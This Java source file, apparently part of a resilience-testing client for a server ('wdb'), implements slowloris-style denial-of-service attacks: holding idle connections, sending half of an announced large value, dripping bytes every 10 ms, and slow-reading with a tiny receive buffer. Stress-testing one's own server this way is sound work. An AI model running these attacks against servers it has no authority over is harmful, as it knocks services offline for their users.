package wdb.client.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Collections;

/** The attacks that take a place and keep it. */
final class Holding {
    static final int LARGE_BYTES = 1 << 20;
    private static final int DRIP_MS = 10;
    private static final int GETS_A_LINE = 16;

    private Holding() {}

    static void hold(Attacker attacker) throws IOException {
        Socket socket = attacker.connect();
        Attacker.send(socket, attacker.dialect().greeting());
        Attacker.linger(socket);
    }

    static void blast(Attacker attacker) throws IOException {
        Attacker.linger(attacker.connect());
    }

    static void halfSet(Attacker attacker) throws IOException {
        Socket socket = attacker.connect();
        Attacker.send(socket, attacker.dialect().announcement(ToolKeys.HALF, String.valueOf(LARGE_BYTES)));
        socket.getOutputStream().write(new byte[LARGE_BYTES / 2]);
        Attacker.linger(socket);
    }

    static void drip(Attacker attacker) throws IOException, InterruptedException {
        OutputStream out = attacker.connect().getOutputStream();
        byte[] request = attacker.dialect().set(ToolKeys.DRIP, "hello").getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; attacker.running(); i++) {
            out.write(request[i % request.length]);
            Attacker.pause(DRIP_MS);
        }
    }

    /** Asks until the server stops reading, with as small a window as the kernel gives; then the write waits until the attack is over. */
    static void slowRead(Attacker attacker) throws IOException {
        Socket socket = new Socket();
        socket.setReceiveBufferSize(4_096);
        attacker.connect(socket);
        String line = attacker.dialect().get(Collections.nCopies(GETS_A_LINE, ToolKeys.LARGE));
        while (attacker.running()) {
            Attacker.send(socket, line);
        }
    }
}
